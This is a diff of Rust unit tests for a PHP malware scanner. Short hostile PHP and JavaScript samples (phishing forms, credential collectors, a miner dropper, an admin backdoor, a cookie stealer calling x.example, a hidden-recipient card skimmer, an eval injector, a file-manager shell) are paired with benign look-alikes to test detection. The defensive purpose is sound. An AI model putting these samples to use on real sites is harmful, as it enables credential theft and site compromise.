+        let rhs = &t[i + 2..t.len().min(i + 18)];
+        for (k, y) in rhs.iter().enumerate().take_while(|(_, y)| !is_op(Some(y), b";") && !matches!(y.tok, Tok::Close))
+        {
+            match y.tok {
+                Tok::Var(b"_GET" | b"_REQUEST") => {
+                    from_get = true;
+                    who |= rhs.get(k + 2).and_then(str_value).is_some_and(|key| WHO_KEY.is_match(key));
+                }
+                Tok::Ident(n) if is_escaper(n) => return false,
+                _ => {}
+            }
+        }
+    }
+    from_get && who
+}
+
+fn is_escaper(n: &[u8]) -> bool {
+    [&b"htmlspecialchars"[..], b"htmlentities", b"esc_attr", b"esc_html", b"strip_tags", b"filter_var", b"intval"]
+        .iter()
+        .any(|e| n.eq_ignore_ascii_case(e))
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::sweep::php;
+
+    fn whys_of(src: &str) -> Vec<(Why, Danger)> {
+        let t = php::tokenize(src.as_bytes(), 100_000);
+        analyze(src.as_bytes(), &t, Options { small: t.len() < 400 }).into_iter().map(|s| (s.why, s.danger)).collect()
+    }
+
+    fn found(src: &str) -> Vec<Why> {
+        let t = php::tokenize(src.as_bytes(), 100_000);
+        analyze(src.as_bytes(), &t, Options { small: t.len() < 400 }).into_iter().map(|s| s.why).collect()
+    }
+
+    #[test]
+    fn a_login_page_that_greets_the_linked_address_is_phishing() {
+        let direct = "<form action=\"next.php\" method=\"post\"><input name=\"e\" value=\"<?=$_GET['email']?>\">\
+                      <input type=\"password\" name=\"p\"></form>";
+        assert_eq!(found(direct), [Why::PhishingPage]);
+        let decoded = "<?php $who = base64_decode($_REQUEST['u']); ?><form action=\"go.php\">\
+                       <input value=\"<?php echo $who; ?>\"><input type='password' name='p'></form>";
+        assert_eq!(found(decoded), [Why::PhishingPage]);
+    }
+
+    #[test]
+    fn an_escaped_or_own_login_form_is_not_phishing() {
+        // The address escaped, as a site's own login or reset form does.
+        let escaped = "<?php $who = htmlspecialchars($_GET['email']); ?><form method=\"post\">\
+                       <input value=\"<?php echo $who; ?>\"><input type=\"password\" name=\"p\"></form>";
+        assert!(found(escaped).is_empty());
+        let wp = "<input type=\"text\" name=\"log\" value=\"<?php echo esc_attr( $user_login ); ?>\">\
+                  <input type=\"password\" name=\"pwd\">";
+        assert!(found(wp).is_empty());
+        // A search box that shows what was searched for has no password field.
+        assert!(found("<form><input name=\"q\" value=\"<?=$_GET['user']?>\"></form>").is_empty());
+        // A value of the page's own (not from the link).
+        let own = "<?php $user = $row['login']; ?><input value=\"<?=$user?>\"><input type=\"password\">";
+        assert!(found(own).is_empty());
+    }
+
+    #[test]
+    fn credentials_passed_through_variables_and_sent_away_are_collected() {
+        let mailed = "<?php $e = $_POST['login']; $p = trim($_POST['passwd']);\n\
+                      $m = \"User: $e\\nPass: $p\\n\"; mail('drop@example.net', 'log', $m);\n\
+                      header('Location: https://mail.example.com/');";
+        assert_eq!(found(mailed), [Why::CredentialCollector]);
+        // Numbered form fields, named by the variables; stored and the visitor sent on.
+        let stored = "<?php $email = $_POST['1']; $password = $_POST['2'];\n\
+                      $line = 'Email: ' . $email . ' | Password: ' . $password;\n\
+                      file_put_contents('r.txt', $line, FILE_APPEND);\n\
+                      echo \"<script>window.location.href='https://outlook.example.com';</script>\";";
+        assert_eq!(found(stored), [Why::CredentialCollector]);
+    }
+
+    #[test]
+    fn a_welcome_mail_or_an_installer_is_not_a_collector() {
+        // The new member's own password mailed to their own address.
+        let welcome = "<?php $u = $_POST['user']; $p = $_POST['pass']; $to = $_POST['email'];\n\
+                       mail($to, 'Welcome', \"Username: $u\\nPassword: $p\\n\"); header('Location: login.php');";
+        assert!(found(welcome).is_empty());
+        // An installer writing its settings, then its own next step.
+        let installer = format!(
+            "<?php {} $user = $_POST['db_user']; $pass = $_POST['db_pass'];\n\
+             file_put_contents('.env', \"DB_USER=$user\\nDB_PASSWORD=$pass\\n\"); header('Location: step3.php');",
+            "$a = 1; ".repeat(150)
+        );
+        assert!(found(&installer).is_empty());
+    }
+
+    #[test]
+    fn a_program_made_executable_and_started_is_a_dropper() {
+        assert_eq!(found("<?php chmod('kw', 0755); exec('./kw -c x >/dev/null 2>&1');"), [Why::StartsProgram]);
+        assert_eq!(found("<?php shell_exec('cd /tmp; ./miner --bg &');"), [Why::StartsProgram]);
+        assert_eq!(found("<?php echo `nohup ./b.pl >/dev/null`;"), [Why::StartsProgram]);
+    }
+
+    #[test]
+    fn an_application_calling_a_system_program_is_not_a_dropper() {
+        assert!(found("<?php exec('/usr/bin/convert ' . escapeshellarg($f) . ' out.png');").is_empty());
+        // Made readable only, and run in the foreground.
+        assert!(found("<?php chmod('cache', 0644); exec('./bin/build --check', $out);").is_empty());
+        // A help text naming a command is not a call.
+        assert!(found("<?php echo 'Run ./install.sh & wait';").is_empty());
+    }
+
+    #[test]
+    fn a_page_watching_its_own_listing_is_found() {
+        let src = "<?php $r = file_get_contents('https://safebrowsing.example/check?site=' . $_SERVER['HTTP_HOST']);\n\
+                   if (strpos($r, 'listed')) { exit; } header('Location: https://pills.example/');";
+        assert_eq!(found(src), [Why::ChecksBlocklists]);
+    }
+
+    #[test]
+    fn a_blocklist_lookup_of_visitors_or_mail_is_not() {
+        // An anti-spam plugin asks about the commenter's address, not its own site.
+        let comments = "<?php $h = gethostbyname(implode('.', array_reverse(explode('.', $ip))) . '.zen.spamhaus.org');\n\
+                        if ($h === '127.0.0.2') { exit; }";
+        assert!(found(comments).is_empty());
+        // A settings page linking to the service.
+        assert!(found("<?php echo '<a href=\"https://transparencyreport.google.com/\">Check</a>'; exit;").is_empty());
+    }
+
+    #[test]
+    fn a_login_without_a_password_is_a_backdoor() {
+        let src = "<?php require 'wp-load.php'; $u = get_users(array('role' => 'administrator'));\n\
+                   wp_set_current_user($u[0]->ID); wp_set_auth_cookie($u[0]->ID); wp_redirect(admin_url()); exit;";
+        assert_eq!(found(src), [Why::AdminBackdoor]);
+    }
+
+    #[test]
+    fn a_plugins_login_is_not_a_backdoor() {
+        // Inside the plugin's function, run when WordPress calls it.
+        let hooked = "<?php function my_sso_login($id) { wp_set_auth_cookie($id, true); }";
+        assert!(found(hooked).is_empty());
+        // A script that checks the password first.
+        let checked = "<?php $u = get_user_by('login', $_POST['log']);\n\
+                       if ($u && wp_check_password($_POST['pwd'], $u->user_pass, $u->ID)) { wp_set_auth_cookie($u->ID); }";
+        assert!(found(checked).is_empty());
+    }
+
+    #[test]
+    fn a_mailer_looping_over_typed_addresses_is_found() {
+        let src = "<?php if ($_POST['go']) { $list = explode(\"\\n\", $_POST['to']);\n\
+                   foreach ($list as $one) { mail(trim($one), $_POST['subj'], $_POST['text'], 'From: ' . $_POST['from']); } }";
+        assert_eq!(found(src), [Why::MailFromInput]);
+    }
+
+    #[test]
+    fn a_contact_form_or_a_newsletter_is_not_a_mailer() {
+        // The site's own address, the visitor's text: a contact form.
+        let contact =
+            "<?php foreach ($admins as $a) { mail($a, 'Contact', $_POST['message'], 'Reply-To: ' . $_POST['email']); }";
+        assert!(found(contact).is_empty());
+        // Subscribers from the database, the text from the form.
+        let news = "<?php $rows = $db->query('SELECT email FROM subscribers');\n\
+                    foreach ($rows as $r) { mail($r['email'], $_POST['subject'], $_POST['body']); }";
+        assert!(found(news).is_empty());
+        // A copy sent to the visitor once.
+        assert!(found("<?php mail($_POST['email'], 'Thanks', 'We got your message.');").is_empty());
+    }
+
+    #[test]
+    fn writing_a_handler_for_invented_endings_plants_config() {
+        let src =
+            "<?php $h = fopen('.htaccess', 'w');\nfwrite($h, \"Options +ExecCGI\\nAddHandler cgi-script .xyz\\n\");";
+        assert_eq!(found(src), [Why::PlantsServerConfig]);
+        let heredoc =
+            "<?php $c = <<<EOT\nAddType application/x-httpd-php .png\nEOT;\nfile_put_contents('img/.htaccess', $c);";
+        assert_eq!(found(heredoc), [Why::PlantsServerConfig]);
+    }
+
+    #[test]
+    fn a_cache_or_security_plugin_writing_htaccess_does_not_plant_config() {
+        // Fonts and compressed files given their types; PHP switched off in uploads.
+        let cache = "<?php file_put_contents($dir . '/.htaccess', \"AddType font/woff2 .woff2\\nAddType text/css .css\\n\
+                     AddEncoding gzip .gz\\n\");";
+        assert!(found(cache).is_empty());
+        let guard = "<?php file_put_contents($up . '/.htaccess', \"<Files *.php>\\ndeny from all\\n</Files>\\n\
+                     php_flag engine off\\nSetHandler none\\n\");";
+        assert!(found(guard).is_empty());
+        // A host's PHP version line for PHP files.
+        let version = "<?php file_put_contents('.htaccess', \"AddHandler application/x-httpd-php81 .php\\n\");";
+        assert!(found(version).is_empty());
+    }
+
+    #[test]
+    fn a_page_loading_a_kits_visitor_filter_is_found() {
+        let two = "<?php include 'filters/anti2.php'; require_once('./guard/blocker.php'); ?><html>Sign in</html>";
+        assert_eq!(found(two), [Why::PhishingBotFilter]);
+        let one = "<?php require 'Bots/check.php'; $ip = $_SERVER['REMOTE_ADDR']; header('Location: step2.php');";
+        assert_eq!(whys_of(one), [(Why::PhishingBotFilter, Danger::Medium)]);
+    }
+
+    #[test]
+    fn an_applications_includes_are_not_a_visitor_filter() {
+        // Words inside names, and a spam filter's class loaded without reading the visitor.
+        let app = "<?php require 'lib/antispam.php'; include 'robotstxt.php'; include 'inc/blacklist.php'; echo 'ok';";
+        assert!(found(app).is_empty());
+    }
+
+    #[test]
+    fn a_script_sending_the_visitors_cookies_away_is_found() {
+        let src = "<?php echo \"<script>document.location='log.php?c='+document.cookie;</script>\";";
+        assert_eq!(found(src), [Why::StealsCookies]);
+        let img = "<script>new Image().src = 'https://x.example/c.gif?d=' + escape(document.cookie);</script><?php ?>";
+        assert_eq!(found(img), [Why::StealsCookies]);
+    }
+
+    #[test]
+    fn reading_or_setting_cookies_in_script_is_not_theft() {
+        let consent = "<script>if (document.cookie.indexOf('ok=1') < 0) { location.href = '/consent?back=' + location.pathname; }\
+                       document.cookie = 'ok=1; path=/';</script><?php ?>";
+        assert!(found(consent).is_empty());
+    }
+
+    #[test]
+    fn code_put_back_from_a_picture_is_a_restorer() {
+        let src = "<?php $keep = './wp-admin/images/a.png'; $to = './cache/index.php';\n\
+                   if (!file_exists($to)) { @file_put_contents($to, file_get_contents($keep)); }";
+        assert_eq!(found(src), [Why::RestoresFromDisguise]);
+        assert_eq!(found("<?php copy('img/bg.gif', '.htaccess');"), [Why::RestoresFromDisguise]);
+    }
+
+    #[test]
+    fn copying_pictures_or_templates_is_not_a_restorer() {
+        assert!(found("<?php copy('logo.png', 'uploads/logo.png');").is_empty());
+        assert!(found("<?php file_put_contents('cache/page.php', file_get_contents('tpl/page.tpl'));").is_empty());
+        assert!(found("<?php file_put_contents($thumb, file_get_contents($url));").is_empty());
+    }
+
+    #[test]
+    fn mail_to_a_hidden_address_is_a_skimmer() {
+        let decoded =
+            "<?php $card = $order->getCard(); mail(base64_decode('Ym94QG1haWwuZXhhbXBsZQ=='), 'card', $card);";
+        assert_eq!(found(decoded), [Why::HiddenMailRecipient]);
+        let assembled = "<?php $t = array('b','o','x','@','m'); $to = $t[0] . $t[1] . $t[2] . $t[3] . $t[4] . '.example';\n\
+                         mail($to, 'new', $data);";
+        assert_eq!(found(assembled), [Why::HiddenMailRecipient]);
+    }
+
+    #[test]
+    fn mail_to_a_configured_or_looked_up_address_is_not_hidden() {
+        assert!(found("<?php mail($config['admin_email'], 'Order', $body);").is_empty());
+        // The subject encoded for mail headers is not the recipient.
+        assert!(found("<?php mail($to, '=?UTF-8?B?' . base64_encode($s) . '?=', $b);").is_empty());
+        assert!(found("<?php $to = $row['first'] . '@' . $row['domain']; mail($to, 'Hi', $b);").is_empty());
+    }
+
+    #[test]
+    fn writing_hidden_code_into_files_plants_a_backdoor() {
+        let src = "<?php $p = '<?php @eval(base64_decode(\"ZWNobyAxOw==\")); ?>';\n\
+                   foreach (glob('../*/index.php') as $f) { file_put_contents($f, $p . file_get_contents($f)); }";
+        assert_eq!(found(src), [Why::InjectsHiddenCode]);
+    }
+
+    #[test]
+    fn writing_ordinary_php_is_not_planting() {
+        // A cache plugin's header, an installer's settings file.
+        let cache = "<?php file_put_contents($f, '<?php exit; ?>' . serialize($data));";
+        assert!(found(cache).is_empty());
+        let config =
+            "<?php file_put_contents('config.php', \"<?php\\ndefine('DB', '\" . addslashes($db) . \"');\\n\");";
+        assert!(found(config).is_empty());
+        // Documentation that shows the shape, never written.
+        assert!(found("<?php echo htmlspecialchars('<?php eval(base64_decode($x)); ?>');").is_empty());
+    }
+
+    #[test]
+    fn a_file_manager_anyone_can_open_is_a_shell() {
+        let src = "<?php $d = isset($_GET['d']) ? $_GET['d'] : '.';\n\
+                   if (isset($_POST['rm'])) { unlink($_POST['rm']); }\n\
+                   if (isset($_POST['from'])) { rename($_POST['from'], $_POST['to']); }\n\
+                   foreach (scandir($d) as $e) { echo \"<a href='?d=$d/$e'>$e</a><br>\"; }";
+        assert_eq!(found(src), [Why::FileManagerShell]);
+    }
+
+    #[test]
+    fn an_applications_file_manager_is_not_a_shell() {
+        let body = "if (isset($_POST['rm'])) { unlink($_POST['rm']); }\n\
+                    if (isset($_POST['from'])) { rename($_POST['from'], $_POST['to']); }\n\
+                    foreach (scandir($dir) as $e) { echo $e; }";
+        // Behind the application's permission check.
+        assert!(found(&format!("<?php if (!current_user_can('manage_options')) {{ exit; }}\n{body}")).is_empty());
+        // A class's method, run when the application calls it.
+        assert!(
+            found(&format!("<?php class Files extends Controller {{ function manage($dir) {{ {body} }} }}")).is_empty()
+        );
+        // A library's functions, run by the application that loads them.
+        assert!(found(&format!("<?php function media_delete($dir) {{ {body} }}")).is_empty());
+        // Deleting the visitor's own cached file by a fixed name is not managing files.
+        assert!(found("<?php unlink('cache/' . md5($key)); foreach (glob('cache/*') as $f) { echo $f; }").is_empty());
+    }
+
+    #[test]
+    fn sending_visitors_to_a_random_other_site_is_a_redirector() {
+        let src = "<?php $to = array('https://a.example/offer', 'https://b.example/win');\n\
+                   header('Location: ' . $to[array_rand($to)]); exit;";
+        assert_eq!(found(src), [Why::TrafficRedirector]);
+    }
+
+    #[test]
+    fn a_fixed_redirect_or_a_random_banner_is_not_a_redirector() {
+        assert!(found("<?php header('Location: https://www.shop.example/'); exit;").is_empty());
+        let banner = "<?php $ads = array('https://cdn.example/a.png', 'https://cdn.example/b.png');\n\
+                      echo '<img src=\"' . $ads[array_rand($ads)] . '\">';";
+        assert!(found(banner).is_empty());
+        // A random page of the site itself.
+        let own = "<?php $pages = array('/a', '/b'); header('Location: ' . $pages[mt_rand(0, 1)]);";
+        assert!(found(own).is_empty());
+    }
+
+    /// The own-written fixtures of these families (the integration test sweeps them all) are
+    /// reported for their family through `detect::judge`.
+    #[test]
+    fn each_fixture_is_reported_for_its_family() {
+        let cases: &[(&str, &str, Why)] = &[
+            (
+                "phishing_login_greets_link_address.php",
+                include_str!("../../../tests/fixtures/sweep/malicious/phishing_login_greets_link_address.php"),
+                Why::PhishingPage,
+            ),
+            (
+                "collector_through_variables.php",
+                include_str!("../../../tests/fixtures/sweep/malicious/collector_through_variables.php"),
+                Why::CredentialCollector,
+            ),
+            (
+                "starts_dropped_program.php",
+                include_str!("../../../tests/fixtures/sweep/malicious/starts_dropped_program.php"),
+                Why::StartsProgram,
+            ),
+            (
+                "watches_own_blocklisting.php",
+                include_str!("../../../tests/fixtures/sweep/malicious/watches_own_blocklisting.php"),
+                Why::ChecksBlocklists,
+            ),
+            (
+                "login_as_admin_without_password.php",
+                include_str!("../../../tests/fixtures/sweep/malicious/login_as_admin_without_password.php"),
+                Why::AdminBackdoor,
+            ),
+            (
+                "mailer_loops_over_typed_list.php",
+                include_str!("../../../tests/fixtures/sweep/malicious/mailer_loops_over_typed_list.php"),
+                Why::MailFromInput,
+            ),
+            (
+                "writes_cgi_handler_htaccess.php",
+                include_str!("../../../tests/fixtures/sweep/malicious/writes_cgi_handler_htaccess.php"),
+                Why::PlantsServerConfig,
+            ),
+            (
+                "kit_page_loads_visitor_filter.php",
+                include_str!("../../../tests/fixtures/sweep/malicious/kit_page_loads_visitor_filter.php"),
+                Why::PhishingBotFilter,
+            ),
+            (
+                "cookie_thief_redirect.php",
+                include_str!("../../../tests/fixtures/sweep/malicious/cookie_thief_redirect.php"),
+                Why::StealsCookies,
+            ),
+            (
+                "restores_code_from_picture.php",
+                include_str!("../../../tests/fixtures/sweep/malicious/restores_code_from_picture.php"),
+                Why::RestoresFromDisguise,
+            ),
+            (
+                "skimmer_hidden_recipient.php",
+                include_str!("../../../tests/fixtures/sweep/malicious/skimmer_hidden_recipient.php"),
+                Why::HiddenMailRecipient,
+            ),
+            (
+                "injector_plants_eval.php",
+                include_str!("../../../tests/fixtures/sweep/malicious/injector_plants_eval.php"),
+                Why::InjectsHiddenCode,
+            ),
+            (
+                "open_file_manager.php",
+                include_str!("../../../tests/fixtures/sweep/malicious/open_file_manager.php"),
+                Why::FileManagerShell,
+            ),
+            (
+                "random_traffic_redirector.php",
+                include_str!("../../../tests/fixtures/sweep/malicious/random_traffic_redirector.php"),
+                Why::TrafficRedirector,
+            ),
+        ];
+        for (name, src, why) in cases {
+            let hits = crate::sweep::detect::judge(&format!("lib/{name}"), name, src.as_bytes(), &[]);
+            assert!(hits.iter().any(|h| h.why == *why), "{name}: {hits:?}");
+        }
+    }
+}
